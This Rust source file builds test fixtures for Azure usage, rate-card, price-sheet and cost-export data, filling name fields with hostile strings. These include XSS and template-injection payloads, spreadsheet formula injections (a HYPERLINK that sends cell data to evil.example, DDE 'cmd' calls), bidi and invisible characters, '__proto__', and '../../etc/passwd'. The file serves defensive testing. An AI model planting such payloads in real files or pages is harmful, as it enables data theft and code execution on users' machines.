//! Data that means harm, made by code: names that somebody gave.

use serde_json::{Value, json};

/// Names as anybody may give them to a resource, a tag or a file.
pub(crate) fn names() -> Vec<(&'static str, String)> {
    let short = [
        ("script element", "<script>window.hostile=1</script>"),
        (
            "picture with a handler",
            "<img src=x onerror=\"window.hostile=1\">",
        ),
        (
            "end of a style sheet",
            "</style></title><svg onload=window.hostile=1>",
        ),
        (
            "end of a script",
            "</script><script>window.hostile=1</script><!--",
        ),
        ("address with a program", "javascript:window.hostile=1"),
        (
            "template",
            "{{constructor.constructor('window.hostile=1')()}}",
        ),
        (
            "formula with =",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        ),
        ("formula with +", "+1+cmd|' /C calc'!A0"),
        ("formula with -", "-1+cmd|' /C calc'!A0"),
        ("formula with @", "@SUM(1)*cmd|' /C calc'!A0"),
        ("formula behind a tab", "\t=1+1"),
        ("formula behind a line end", "\r=1+1"),
        ("control characters", "a\u{1}\u{1b}[2Jb\u{7f}\u{9b}c"),
        ("zero bytes", "a\0b"),
        ("text turned around", "safe\u{202e}gnp.exe"),
        ("isolates without an end", "\u{2067}abc\u{2066}\u{202d}"),
        ("unseen characters", "web\u{200b}-\u{feff}01\u{2060}\u{ad}"),
        ("line ends of scripts", "a\u{2028}b\u{2029}c"),
        ("no characters", "\u{ffff}\u{fffe}"),
        ("member of every object", "__proto__"),
        ("constructor", "constructor"),
        ("path upwards", "../../etc/passwd"),
    ];
    let mut names: Vec<(&str, String)> = short
        .into_iter()
        .map(|(what, name)| (what, name.to_owned()))
        .collect();
    names.push((
        "stack of marks",
        format!("Z{}x", "\u{301}\u{489}".repeat(5000)),
    ));
    names.push(("200,000 characters", "x".repeat(200_000)));
    names
}

/// A row of usage of the first days of 2024.
pub(crate) fn usage_row(name: &str, quantity: u32) -> Value {
    let uri =
        format!("/subscriptions/5ub/resourceGroups/{name}/providers/Microsoft.Web/sites/{name}");
    let instance = json!({"Microsoft.Resources": {
        "resourceUri": uri,
        "location": name,
        "tags": {name: name, "team": name},
        "additionalInfo": {name: name},
    }});
    json!({"name": "Daily_BRSDT_20240102_0000", "properties": {
        "subscriptionId": "5ub",
        "usageStartTime": "2024-01-01T00:00:00+00:00",
        "usageEndTime": "2024-01-02T00:00:00+00:00",
        "meterId": format!("meter {name}"),
        "meterName": name,
        "meterCategory": name,
        "meterSubCategory": name,
        "meterRegion": name,
        "unit": name,
        "quantity": quantity,
        "instanceData": instance.to_string(),
        "infoFields": {"project": name},
    }})
}

pub(crate) fn usage_page(rows: &[Value]) -> Vec<u8> {
    json!({ "value": rows }).to_string().into_bytes()
}

/// A rate card of two meters.
pub(crate) fn card(name: &str) -> Vec<u8> {
    card_of(name, &[name, "plain"])
}

/// Files with all names but the longest: a page of usage whose rows have the quantities 1, 2, 3 and
/// so on, with two bad rows behind them, and a card with the price 1.5 for each.
pub(crate) fn kept() -> [(&'static str, Vec<u8>); 2] {
    let names = names();
    let short: Vec<&str> = names
        .iter()
        .map(|(_, name)| name.as_str())
        .filter(|name| name.len() < 100)
        .collect();
    let rows = short
        .iter()
        .zip(1..)
        .map(|(name, quantity)| usage_row(name, quantity));
    let mut rows: Vec<Value> = rows.collect();
    for (field, at) in [("quantity", 1), ("usageStartTime", 14)] {
        let mut bad = usage_row("bad", 1);
        bad["properties"][field] = format!("{}{}", short[at], short[0]).into();
        rows.push(bad);
    }
    [
        ("usage.json", usage_page(&rows)),
        ("card.json", card_of("en", &short)),
    ]
}

fn card_of(locale: &str, names: &[&str]) -> Vec<u8> {
    let meter = |id: &str, name: &str| {
        json!({
            "MeterId": id, "MeterName": name, "MeterCategory": name, "MeterSubCategory": name,
            "MeterRegion": name, "Unit": name, "MeterTags": [name],
            "MeterRates": {"0": 1.5}, "EffectiveDate": "2023-01-01T00:00:00Z", "IncludedQuantity": 0.0,
        })
    };
    json!({
        "OfferTerms": [], "Currency": "USD", "Locale": locale, "IsTaxIncluded": false,
        "Meters": names.iter().map(|name| meter(&format!("meter {name}"), name)).collect::<Vec<_>>(),
    })
    .to_string()
    .into_bytes()
}

/// Two lines of a price sheet.
pub(crate) fn price_sheet(name: &str) -> Vec<u8> {
    let line = |name: &str| {
        json!({
            "meterId": format!("meter {name}"), "meterName": name, "unitOfMeasure": name,
            "includedQuantity": 0, "partNumber": name, "unitPrice": 1.5, "currencyCode": "USD",
            "meterDetails": {"meterName": name, "meterCategory": name, "meterLocation": name},
        })
    };
    json!([line(name), line("plain")]).to_string().into_bytes()
}

/// A page of list prices of two meters.
pub(crate) fn retail(name: &str) -> Vec<u8> {
    let item = |name: &str| {
        json!({
            "currencyCode": "USD", "tierMinimumUnits": 0.0, "retailPrice": 1.5, "unitPrice": 1.5,
            "armRegionName": name, "location": name, "effectiveStartDate": "2023-01-01T00:00:00Z",
            "meterId": format!("meter {name}"), "meterName": name, "productName": name,
            "skuName": name, "serviceName": name, "serviceFamily": name, "unitOfMeasure": name,
            "type": "Consumption", "isPrimaryMeterRegion": true, "armSkuName": name,
        })
    };
    json!({"BillingCurrency": "USD", "Items": [item(name), item("plain")], "NextPageLink": null, "Count": 2})
        .to_string()
        .into_bytes()
}

/// A cost export of two rows.
pub(crate) fn table(name: &str) -> Vec<u8> {
    let quoted = format!("\"{}\"", name.replace('"', "\"\""));
    let tags = json!({name: name, "team": name})
        .to_string()
        .replace('"', "\"\"");
    let uri = format!(
        "\"/subscriptions/5ub/resourceGroups/x/providers/y/z/{}\"",
        name.replace('"', "\"\"")
    );
    format!(
        "SubscriptionId,SubscriptionName,Date,MeterId,MeterName,MeterCategory,Quantity,UnitOfMeasure,ResourceId,ResourceLocation,Tags\n\
         5ub,{quoted},2024-01-01,{quoted},{quoted},{quoted},1,{quoted},{uri},{quoted},\"{tags}\"\n\
         5ub,{quoted},2024-01-02,plain,plain,plain,2,1 Hour,,,\n"
    )
    .into_bytes()
}
